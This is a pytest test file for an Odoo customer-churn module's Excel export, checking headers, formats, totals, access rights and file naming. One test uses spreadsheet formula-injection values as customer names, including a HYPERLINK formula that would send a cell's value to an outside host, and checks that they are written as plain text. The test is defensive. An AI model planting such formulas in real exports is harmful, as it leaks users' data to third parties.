"""The formatted Excel export of a segment: headers in the user's language, formats, totals."""

import base64
import io
import threading
import urllib.parse
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from freezegun import freeze_time

from odoo.exceptions import AccessError, UserError

from odoo.addons.mail.tests.common import mail_new_test_user

HEADERS_EN = ["Customer", "Salesperson", "Churn State"]


@pytest.fixture
def rep(env):
    return mail_new_test_user(env, login="export_rep", groups="sales_team.group_sale_salesman", name="Export Rep")


@pytest.fixture
def customers(shop, today, rep):
    """Two traded shops and one that never ordered, computed as of today.

    Big shop: 200 + 100 in the last 30 days, 100 in the 30 before (sales surge), visited 2 days
    ago. Quiet shop: one order of 50, 20 days ago (at risk from 15 days). Over the year the big
    shop ranks first of two: very important (ceil(5% × 2) = 1); the quiet one general.
    """
    big = shop.customer("Big shop", user_id=rep.id)
    quiet = shop.customer("Quiet shop", user_id=rep.id)
    new = shop.customer("New shop", user_id=rep.id)
    shop.orders(big, [today - timedelta(days=3)], 200)
    shop.orders(big, [today - timedelta(days=10), today - timedelta(days=40)], 100)
    shop.order(quiet, today - timedelta(days=20), 50)
    visit = shop.env["mail.activity"].create(
        {
            "res_model_id": shop.env["ir.model"]._get_id("res.partner"),
            "res_id": big.id,
            "activity_type_id": shop.env["mail.activity.type"]._get_churn_visit_type().id,
            "user_id": rep.id,
        }
    )
    visit.action_feedback(feedback="Visited")
    visit.with_context(active_test=False).search([("id", "=", visit.id)]).date_done = today - timedelta(days=2)
    shop.recompute(today)
    return big | quiet | new


def export(env, partners, user):
    action = (
        env.ref("customer_churn_cockpit.customer_churn_export_action")
        .with_user(user)
        .with_context(active_model="res.partner", active_ids=partners.ids)
        .run()
    )
    export_id = int(action["url"].split("/")[4])
    data = base64.b64decode(env["customer.churn.export"].browse(export_id).file)
    return openpyxl.load_workbook(io.BytesIO(data), data_only=True).active, action


def rows_by_name(sheet):
    header = [cell.value for cell in sheet[1]]
    rows = sheet.iter_rows(min_row=2, max_row=4, values_only=True)
    return header, {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def test_export_has_one_formatted_row_per_customer_and_totals(shop, today, customers, rep):
    sheet, action = export(shop.env, customers, rep)
    assert action["type"] == "ir.actions.act_url" and action["url"].endswith(".xlsx?download=true")
    header, rows = rows_by_name(sheet)
    assert header[:3] == HEADERS_EN and header[-1] == "Flags"
    big, quiet, new = rows["Big shop"], rows["Quiet shop"], rows["New shop"]
    assert (big["Churn State"], quiet["Churn State"], new["Churn State"]) == ("Active", "At Risk", "Never Traded")
    assert (big["Value Segment"], quiet["Value Segment"]) == ("Very Important", "General")
    assert big["Salesperson"] == "Export Rep"
    assert (big["Sales, Current Period"], big["Sales, Previous Period"]) == (300, 100)
    assert quiet["Sales, Current Period"] == 50
    assert big["Last Order Date"] == datetime.combine(today - timedelta(days=3), datetime.min.time())
    assert (big["Days Without Orders"], quiet["Days Without Orders"]) == (3, 20)
    assert (big["Days Since Visit"], quiet["Days Since Visit"]) == (2, None)
    assert new["Days Without Orders"] is None and new["Last Order Date"] is None
    assert "Sales Surge" in big["Flags"]
    # Why each one is listed, in words (SPEC §10).
    assert big["Why"].startswith("active: last order 3 days ago") and "sales surged from" in big["Why"]
    assert new["Why"] == "never ordered"
    # Totals follow Excel's filter: SUBTOTAL over the rows, with the value already computed.
    assert sheet["A5"].value == "Total (3 customers)"
    assert sheet["H5"].value == 350 and sheet["I5"].value == 100 and sheet["J5"].value == 3
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:T4"
    assert "#,##0.00" in sheet["H2"].number_format and shop.company.currency_id.symbol in sheet["H2"].number_format
    assert sheet["L2"].number_format == "yyyy-mm-dd"


def test_headers_and_labels_in_the_users_language(shop, customers, rep):
    rep.lang = "zh_CN"
    sheet, _action = export(shop.env, customers, rep)
    header, rows = rows_by_name(sheet)
    assert {"流失状态", "最近下单日期", "本期销售额"} <= set(header)
    assert rows["Quiet shop"]["流失状态"] == "即将流失"


def test_totals_formula_sums_the_listed_rows(shop, customers, rep):
    action = (
        shop.env.ref("customer_churn_cockpit.customer_churn_export_action")
        .with_user(rep)
        .with_context(active_model="res.partner", active_ids=customers.ids)
        .run()
    )
    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(record.file))).active
    assert sheet["H5"].value == "=SUBTOTAL(109,H2:H4)"


def test_nothing_selected_is_a_clear_error(shop, rep):
    with pytest.raises(UserError, match="at least one customer"):
        shop.env["customer.churn.export"].with_user(rep)._action_export(shop.env["res.partner"])


def test_users_outside_the_cockpit_cannot_export(shop, customers):
    clerk = mail_new_test_user(shop.env, login="export_clerk", groups="base.group_user", name="Clerk")
    with pytest.raises(AccessError):
        shop.env["customer.churn.export"].with_user(clerk).create({})


def test_a_name_that_looks_like_a_formula_stays_text(shop, rep):
    """A shop named like a formula or a link is written as its name, never as a live formula."""
    names = ['=HYPERLINK("https://x/?"&H2,"Open")', "https://shop.example/order", "+1-2", "@SUM(A1)"]
    partners = shop.env["res.partner"].browse([shop.customer(name, user_id=rep.id).id for name in names])
    shop.recompute()
    action = (
        shop.env.ref("customer_churn_cockpit.customer_churn_export_action")
        .with_user(rep)
        .with_context(active_model="res.partner", active_ids=partners.ids)
        .run()
    )
    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(record.file))).active
    cells = [sheet.cell(row, 1) for row in range(2, 6)]
    assert sorted(cell.value for cell in cells) == sorted(names)
    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula
    assert not any(cell.hyperlink for cell in cells)
    assert sheet["H6"].data_type == "f" and sheet["H6"].value == "=SUBTOTAL(109,H2:H5)"  # the totals stay formulas


def download_route(env, url):
    """What Odoo's router makes of the download address: the route's arguments, or NotFound."""
    path = urllib.parse.unquote(urllib.parse.urlsplit(url).path)
    thread = threading.current_thread()
    previous, thread.dbname = getattr(thread, "dbname", None), env.cr.dbname
    try:
        return env["ir.http"].routing_map().bind("localhost").match(path)[1]
    finally:
        thread.dbname = previous


def test_company_name_with_a_slash_still_downloads(shop, customers, rep):
    """A company named "Foo/Bar" in the file name made the address /web/content/…/customers-Foo/Bar-….xlsx: a 404."""
    shop.company.name = 'East/West "Trading" #1: 50% <off>?'
    _sheet, action = export(shop.env, customers, rep)
    route = download_route(shop.env, action["url"])
    record = shop.env["customer.churn.export"].browse(route["id"])
    assert (route["model"], route["field"]) == ("customer.churn.export", "file")
    assert route["filename"] == record.filename
    assert record.filename.startswith("customers-East-West -Trading- -1- 50% -off--")
    assert not set('/\\:*?"<>|#') & set(record.filename)


def test_file_is_named_with_the_companys_local_day(shop, customers, rep):
    """23:30 UTC on 9 March is already 10 March in Shanghai, the day the figures are as of."""
    shop.company.partner_id.tz = "Asia/Shanghai"
    with freeze_time("2026-03-09 23:30:00"):
        _sheet, action = export(shop.env, customers, rep)
        today = shop.env["customer.churn.engine"]._today(shop.company)
    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
    assert today == date(2026, 3, 10)
    assert record.filename.endswith("-2026-03-10.xlsx")
